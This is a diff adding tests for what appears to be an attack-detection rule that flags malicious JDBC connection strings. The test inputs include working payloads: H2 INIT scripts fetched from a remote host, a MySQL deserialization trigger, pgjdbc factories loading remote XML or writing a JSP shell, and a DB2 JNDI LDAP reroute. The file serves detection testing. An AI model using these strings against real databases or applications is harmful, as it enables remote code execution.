@@ -240,3 +240,24 @@ describe('Java: JMX operations through Jolokia that load configuration or code',
     expect(hits({ target: '/search?q=logback+reloadByURL+example' })).toEqual([]);
   });
 });
+
+describe('Java: JDBC connection strings that act at connect', () => {
+  it('reads H2 INIT scripts and aliases, MySQL autoDeserialize, pgjdbc factories and log files, DB2 JNDI reroute', () => {
+    for (const url of [
+      "mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.223/evil.sql'",
+      "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return c; }'",
+      'jdbc:mysql://203.0.113.9:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
+      'jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.9/b.xml',
+      'jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=../webapps/ROOT/shell.jsp',
+      'jdbc:db2://db:50000/BLUDB:clientRerouteServerListJNDIName=ldap://203.0.113.9:1389/a;',
+    ])
+      expect({ url, ids: idsOf(url, 'body_json', 'url') }).toEqual({ url, ids: expect.arrayContaining([420116]) });
+    for (const url of [
+      'jdbc:h2:file:/var/lib/app/db;MODE=PostgreSQL;DB_CLOSE_DELAY=-1',
+      "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'classpath-data.sql'",
+      'jdbc:mysql://db:3306/shop?useSSL=true&serverTimezone=UTC',
+      'jdbc:postgresql://db/x?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory',
+    ])
+      expect({ url, ids: idsOf(url, 'body_json', 'url').filter((id) => id === 420116) }).toEqual({ url, ids: [] });
+  });
+});
